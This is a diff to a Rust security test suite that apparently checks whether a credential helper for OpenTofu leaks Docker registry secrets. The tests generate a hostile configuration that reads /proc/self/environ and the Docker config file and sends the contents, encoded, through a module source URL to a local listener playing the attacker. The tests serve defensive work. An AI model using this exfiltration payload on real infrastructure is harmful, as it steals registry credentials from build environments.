@@ -6,6 +6,7 @@ use std::sync::{Arc, Mutex};
 use std::thread;
 use std::time::Duration;
 
+use super::recorder::Recorder;
 use super::shelf::{REPOSITORY, Shelf};
 use super::with_modules;
 use super::world::{Setup, World};
@@ -81,16 +82,24 @@ impl Attacker {
     }
 }
 
-/// Attack A1: three lines that read whatever the delivery has written, and send it away turned around.
-fn theft(attacker: &Attacker, shelf: &Shelf) -> String {
+/// Attack A1: lines that read whatever the delivery has written, and send it away turned around. `cli` is how they come
+/// by tofu's CLI configuration.
+fn theft(attacker: &Attacker, shelf: &Shelf, cli: &str) -> String {
     let port = attacker.port;
     format!(
-        "{}locals {{\n  environ = file(\"/proc/self/environ\")\n  cli     = file(regex(\"TF_CLI_CONFIG_FILE=([^\\\\x00]+)\", \
-         local.environ)[0])\n  docker  = file(regex(\"docker_style_config_files = \\\\[\\\"([^\\\"]+)\", local.cli)[0])\n}}\n\
+        "{}{cli}locals {{\n  docker = file(regex(\"docker_style_config_files = \\\\[\\\"([^\\\"]+)\", local.cli)[0])\n}}\n\
          module \"theft\" {{\n  source = \"http://127.0.0.1:{port}/x?all=${{strrev(base64encode(local.docker))}}\"\n}}\n",
         with_modules(&[("greeting", shelf.source(REPOSITORY))])
     )
 }
+
+/// As any author can: the step's environment names the file.
+const BY_ENVIRONMENT: &str = "locals {\n  environ = file(\"/proc/self/environ\")\n  cli = \
+                              file(regex(\"TF_CLI_CONFIG_FILE=([^\\\\x00]+)\", local.environ)[0])\n}\n";
+
+/// A tofu that tells the configuration where the file is.
+const TELLS: &str =
+    "if [ $1 = get ]; then printf 'locals {\\n  cli = file(\"%s\")\\n}\\n' \"$TF_CLI_CONFIG_FILE\" > told.tf; fi";
 
 /// What the attacker has of the Docker file.
 fn stolen(attacker: &Attacker) -> String {
@@ -104,14 +113,27 @@ fn stolen(attacker: &Attacker) -> String {
 }
 
 #[test]
-fn an_expression_steals_the_file_and_finds_nothing_with_the_helper() {
-    let Some(mut world) = World::start() else { return };
+fn an_expression_finds_no_way_to_a_file_that_was_delivered() {
+    let Some(world) = with_agent("file") else { return };
+    let Some(shelf) = Shelf::start(&world.canaries[0].password) else { return };
+    shelf.add(&world, "demo", &["--export", "--permit-file"]).succeeded().unwrap();
+    let attacker = Attacker::listen();
+    let said = world.apply(&world.configuration(&theft(&attacker, &shelf, BY_ENVIRONMENT)), 1);
+    // The greeting came, so the credential was there; what names it is out of sight.
+    assert!(said.contains("/proc/self/environ") && shelf.log().contains("auth.user.name="), "{said}");
+    assert_eq!(attacker.heard(), "", "{said}");
+}
+
+#[test]
+fn who_knows_the_path_steals_a_file_and_nothing_of_the_helper() {
+    let Some(recorder) = Recorder::with(TELLS) else { return };
+    let tofu = recorder.program();
+    let Some(mut world) = World::with(Setup { tofu: Some(&tofu), ..Setup::default() }) else { return };
     let Some(shelf) = Shelf::start(&world.canaries[0].password) else { return };
     shelf.add(&world, "demo", &["--export", "--permit-file"]).succeeded().unwrap();
     // With the helper the attack runs to its end, and what it gets is worth nothing.
     let attacker = Attacker::listen();
-    let main = theft(&attacker, &shelf);
-    let said = world.apply(&world.configuration(&main), 1);
+    let said = world.apply(&world.configuration(&theft(&attacker, &shelf, "")), 1);
     let found = stolen(&attacker);
     assert!(found.contains("credHelpers") && found.contains(&shelf.host()), "{found}\n{}\n{said}", attacker.heard());
     let mut search = support::search::Search::new(&world.canaries);
@@ -122,8 +144,7 @@ fn an_expression_steals_the_file_and_finds_nothing_with_the_helper() {
     world.stack.agent().unwrap().stop().unwrap();
     world.stack.start_agent(&["--delivery", "file"]).unwrap();
     let attacker = Attacker::listen();
-    let main = theft(&attacker, &shelf);
-    world.apply(&world.configuration(&main), 1);
+    let said = world.apply(&world.configuration(&theft(&attacker, &shelf, "")), 1);
     let found = stolen(&attacker);
-    assert!(found.contains("\"auth\":"), "{found}\n{}", attacker.heard());
+    assert!(found.contains("\"auth\":"), "{found}\n{}\n{said}", attacker.heard());
 }
